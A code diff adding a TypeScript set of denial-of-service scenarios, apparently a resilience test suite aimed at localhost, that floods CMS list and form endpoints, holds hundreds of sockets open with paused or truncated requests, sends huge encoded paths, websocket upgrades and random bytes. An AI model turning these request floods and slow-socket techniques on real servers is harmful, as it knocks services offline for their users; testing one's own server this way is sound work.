@@ -1,0 +1,51 @@
+import { randomBytes } from 'node:crypto'
+import { type Attack, at, flood, occupy, send } from './attackTools.ts'
+
+const rawLists = [
+  '/cms/api/entries?limit=100&depth=2',
+  '/cms/api/categories?limit=100',
+  '/cms/api/news?depth=2',
+  '/cms/api/files?limit=100',
+]
+const forms = ['/addrequest', '/en/addrequest', '/categories/list/Apotheken/x/report']
+const asForm = 'Content-Type: application/x-www-form-urlencoded'
+const typed = `form=new&name=${'x'.repeat(200)}&captchaId=x&captchaCode=y`
+const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`
+
+const reads =
+  (atOnce: number, pathOf: (n: number) => string): Attack =>
+  (target) =>
+    flood(target, atOnce, (n) => send(target, { method: 'GET', path: pathOf(n) }))
+
+/** At doors that the first attacks did not try. */
+export const otherDoors: Record<string, Attack> = {
+  'raw lists that nobody reads, 250': (target) =>
+    occupy(target, 250, (socket, n) => {
+      socket.pause()
+      socket.write(get(at(rawLists, n)).repeat(200))
+    }),
+  'raw lists, 50 at once': reads(50, (n) => `${at(rawLists, n)}&page=${1 + (n % 40)}`),
+  'forms, 50 at once': (target) =>
+    flood(target, 50, (n) =>
+      send(target, {
+        path: at(forms, n),
+        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
+        body: typed,
+      }),
+    ),
+  'forms that break off, 100 at once': (target) =>
+    occupy(target, 100, (socket, n) => {
+      const path = at([...forms, '/confirm/x', '/en/confirm/x/y'], n)
+      socket.write(`POST ${path} HTTP/1.1\r\nHost: localhost\r\n${asForm}\r\nContent-Length: 90000\r\n\r\n`)
+      socket.write(Buffer.alloc(80_000, 'x'), () => setTimeout(() => socket.resetAndDestroy(), 20))
+    }),
+  'long paths, 50 at once': reads(50, (n) => `/${'%C3%A4'.repeat(2000)}${n}`),
+  'other protocols, 250': (target) =>
+    occupy(target, 250, (socket) => {
+      socket.write('GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n')
+    }),
+  'garbage, 250': (target) =>
+    occupy(target, 250, (socket) => {
+      socket.write(randomBytes(65_536))
+    }),
+}
